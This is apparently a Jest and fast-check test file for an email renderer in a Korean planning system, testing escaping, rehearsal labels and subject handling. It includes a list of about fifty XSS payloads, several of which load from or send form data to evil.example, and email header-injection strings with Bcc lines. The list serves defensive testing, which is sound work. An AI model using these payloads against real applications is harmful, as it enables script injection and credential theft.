import fc from 'fast-check';
import { renderDigest, renderMail } from './mail-text.js';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></p><script>alert(1)</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '</body></html><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</p><script>alert(1)</script><p>',
  '</td></tr></table><script>alert(1)</script>',
  '<a href="javascript:alert(1)">눌러 주세요</a>',
  '<a href="https://evil.example">경상북도</a>',
  '<form action="https://evil.example"><input name=password>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<style>body{background:url(//evil.example/x)}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<div style="background:url(//evil.example/x)">',
  '<!-- --><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" style="background:url(//evil.example/x)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<scr\nipt>alert(1)</scr\nipt>',
  '<\u0001img src=x onerror=alert(1)>',
  '\u202e<script>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '<<script>>alert(1)<</script>>',
  '`${alert(1)}`<img src=`x`onerror=alert(1)>',
  'javascript:alert(1)',
];

/** Every tag the two templates write, as they write them; whatever else begins with < is somebody's own. */
const TAGS =
  /<!doctype html>|<html lang="(?:ko|en)">|<meta charset="utf-8">|<(?:body|p|table|caption|td) style="[\w\s#%:;.,/-]*">|<th scope="col" style="[\w\s#%:;.,/-]*">|<br>|<\/?(?:head|title|thead|tbody|tr)>|<\/(?:html|body|p|table|caption|td|th)>/g;
const leftover = (html: string): string => html.replace(TAGS, '');

const FRAME = { subject: '[대개조] 혁신계획 본접수 마감 3일 전 · 경상북도', rehearsal: false, footer: '대개조 시스템' };
const ITEM = { what: '혁신계획 본접수', until: '2021. 3. 18. 18:00', where: '/plans/p1' };

describe('a mail', () => {
  it('says the same in plain text and in HTML', () => {
    const { subject, text, html } = renderMail({ ...FRAME, paragraphs: ['첫 문단', '둘째\n문단'] });
    expect(subject).toBe(FRAME.subject);
    expect(text).toBe('첫 문단\n\n둘째\n문단\n\n-- \n대개조 시스템\n');
    expect(html).toContain('<html lang="ko">');
    expect(html).toContain('<title>[대개조] 혁신계획 본접수 마감 3일 전 · 경상북도</title>');
    expect(html).toMatch(/>첫 문단<\/p>\n.*>둘째<br>문단<\/p>\n.*>대개조 시스템<\/p>/);
    expect(leftover(html)).not.toContain('<');
  });

  it('fetches nothing and links nowhere', () => {
    const { html } = renderMail({ ...FRAME, rehearsal: true, paragraphs: ['/plans/p1'] });
    expect(html).not.toMatch(/href|src|url\(|<link|<style|<script|https?:/i);
  });

  it('of a rehearsal says so in the subject and at the top, in the reader’s language', () => {
    for (const [language, words] of [
      ['ko', '실제 업무가 아닙니다'],
      ['en', 'It is not the real procedure'],
    ] as const)
      for (const mail of [
        renderMail({ ...FRAME, language, rehearsal: true, paragraphs: ['문단'] }),
        renderDigest({ ...FRAME, language, rehearsal: true, intro: '할 일 1건', items: [ITEM] }),
      ]) {
        expect(mail.subject.startsWith('[모의 운영] [대개조]')).toBe(true);
        expect(mail.text.split('\n')[0]).toContain(words);
        expect(mail.html).toContain(words);
        expect(mail.html).toContain(`<html lang="${language}">`);
      }
  });

  it('of the real thing does not', () => {
    const { subject, text, html } = renderMail({ ...FRAME, paragraphs: ['문단'] });
    expect([subject, text, html].join('\n')).not.toContain('모의 운영');
  });

  it.each(['제목\r\nBcc: all@example.com', '제목\nBcc: all@example.com', '제목\u2028Bcc: all@example.com'])(
    'keeps its subject on one line: %j',
    (subject) => {
      const mail = renderMail({ ...FRAME, subject, paragraphs: [] });
      expect(mail.subject).toBe('제목 Bcc: all@example.com');
    },
  );
});

describe('a digest', () => {
  it('lists what is to be done with its deadlines', () => {
    const items = [ITEM, { what: '컨설팅 의견 3건 답변', until: '2021. 3. 19. 18:00', where: '/plans/p1/opinions' }];
    const { text, html } = renderDigest({ ...FRAME, intro: '할 일 2건이 있습니다.', items });
    expect(text).toBe(
      [
        '할 일 2건이 있습니다.\n',
        '1. 혁신계획 본접수\n   기한: 2021. 3. 18. 18:00\n   처리하는 곳: /plans/p1\n',
        '2. 컨설팅 의견 3건 답변\n   기한: 2021. 3. 19. 18:00\n   처리하는 곳: /plans/p1/opinions\n',
        '-- \n대개조 시스템\n',
      ].join('\n'),
    );
    expect(html.match(/<th scope="col"/g)).toHaveLength(3);
    expect(html.match(/<tr>/g)).toHaveLength(3);
    expect(html).toContain('할 일 2건이 있습니다.</caption>');
    expect(leftover(html)).not.toContain('<');
  });
});

describe('what others wrote', () => {
  it('is tried with at least fifty payloads', () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(50);
  });

  it.each(PAYLOADS)('comes to no life: %j', (payload) => {
    const mail = renderMail({ ...FRAME, subject: payload, footer: payload, paragraphs: [payload, `앞 ${payload} 뒤`] });
    const digest = renderDigest({
      ...FRAME,
      subject: payload,
      footer: payload,
      intro: payload,
      items: [{ what: payload, until: payload, where: payload }],
    });
    for (const { html, subject } of [mail, digest]) {
      expect(leftover(html)).not.toMatch(/[<>]/);
      expect(html.match(/<p /g)?.length).toBe(html.match(/<\/p>/g)?.length);
      expect(leftover(html)).not.toMatch(/["']/); // no way out of an attribute either
      expect(html).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e\ufeff]/);
      expect(subject).not.toContain('\n');
    }
  });

  it('comes to no life whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (text) => {
        expect(leftover(renderMail({ ...FRAME, paragraphs: [text] }).html)).not.toMatch(/[<>"']/);
      }),
    );
  });
});
